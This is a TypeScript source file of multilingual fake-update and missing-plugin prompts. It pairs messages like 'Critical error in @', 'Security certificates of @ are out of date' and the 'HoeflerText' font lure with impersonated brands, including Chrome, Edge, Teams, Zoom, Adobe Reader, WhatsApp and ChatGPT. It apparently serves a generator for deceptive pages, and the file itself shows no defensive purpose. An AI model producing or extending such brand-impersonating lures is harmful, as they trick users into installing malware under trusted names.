import type { Language } from '../make/words/words.ts'

/** `@` stands for the program, `#` for a version. */
export interface Pretext {
  readonly language: Language
  readonly title: string
  readonly text: string
  readonly go: string
}

export const BROWSER: readonly Pretext[] = [
  {
    language: 'en',
    title: '@ needs an update',
    text: 'This site uses features that your version of @ does not support. Install version # to go on.',
    go: 'Update @',
  },
  {
    language: 'en',
    title: 'Critical error in @',
    text: 'Security certificates of @ are out of date. Get build # before you return to the site.',
    go: 'Install now',
  },
  {
    language: 'de',
    title: 'Aktualisierung für @ erforderlich',
    text: 'Ihre Version von @ ist veraltet. Installieren Sie #, um die Seite zu sehen.',
    go: '@ aktualisieren',
  },
  {
    language: 'fr',
    title: 'Mise à jour de @',
    text: 'Une version récente de @ (#) est nécessaire pour afficher cette page.',
    go: 'Mettre à jour',
  },
  {
    language: 'es',
    title: 'Actualice @',
    text: 'Está utilizando una versión antigua de @. Descargue la versión #.',
    go: 'Actualizar ahora',
  },
  {
    language: 'it',
    title: 'Aggiornamento @ disponibile',
    text: 'La versione in uso di @ non è più sicura. Scarica la #.',
    go: 'Scarica aggiornamento',
  },
  {
    language: 'ja',
    title: '@の更新が必要です',
    text: 'お使いの@は古いバージョンです。バージョン # をインストールしてください。',
    go: '今すぐ更新',
  },
  {
    language: 'pl',
    title: 'Zaktualizuj @',
    text: 'Ta strona wymaga @ w wersji #.',
    go: 'Pobierz aktualizację',
  },
]

const MEETING: readonly Pretext[] = [
  {
    language: 'en',
    title: 'Join meeting - @',
    text: 'Your microphone could not be found. Install the @ audio component # to join.',
    go: 'Join from PC',
  },
  {
    language: 'en',
    title: '@ for Windows',
    text: 'The host has started the meeting. @ # is required, your client is too old.',
    go: 'Launch meeting',
  },
  {
    language: 'de',
    title: '@: Besprechung beitreten',
    text: 'Zum Beitreten benötigen Sie @ #.',
    go: 'Jetzt beitreten',
  },
  {
    language: 'pt',
    title: 'Entrar na reunião - @',
    text: 'O @ instalado está desatualizado. Baixe a versão # para entrar.',
    go: 'Baixar e entrar',
  },
]

export const READER: readonly Pretext[] = [
  {
    language: 'en',
    title: '@ - plugin missing',
    text: 'The secured file cannot be displayed without the @ plugin #.',
    go: 'Get plugin',
  },
  {
    language: 'en',
    title: "The 'HoeflerText' font wasn't found",
    text: 'The page is shown incorrectly. Add the font pack # to @ and reload.',
    go: 'Add font',
  },
  {
    language: 'nl',
    title: '@ bijwerken',
    text: 'Deze pagina vereist @ #. De installatie start vanzelf.',
    go: 'Bijwerken',
  },
  {
    language: 'zh',
    title: '@ 版本过低',
    text: '请安装 @ # 后继续访问。',
    go: '立即下载',
  },
]

/** The brand whose host is imitated, what its program is called, and the pretexts that fit. */
export const PRODUCTS: readonly (readonly [string, readonly string[], readonly Pretext[]])[] = [
  ['google', ['Google Chrome', 'Chrome'], BROWSER],
  ['google', ['Google Chrome', 'Chrome browser'], BROWSER],
  ['google', ['Google Chrome'], READER],
  ['google', ['Google Meet'], MEETING],
  ['microsoft', ['Microsoft Edge'], BROWSER],
  ['microsoft', ['Microsoft Teams'], MEETING],
  ['zoom', ['Zoom'], MEETING],
  ['adobe', ['Adobe Acrobat Reader', 'Adobe Reader'], READER],
  ['whatsapp', ['WhatsApp', 'WhatsApp Web'], READER],
  ['chatgpt', ['ChatGPT'], READER],
]
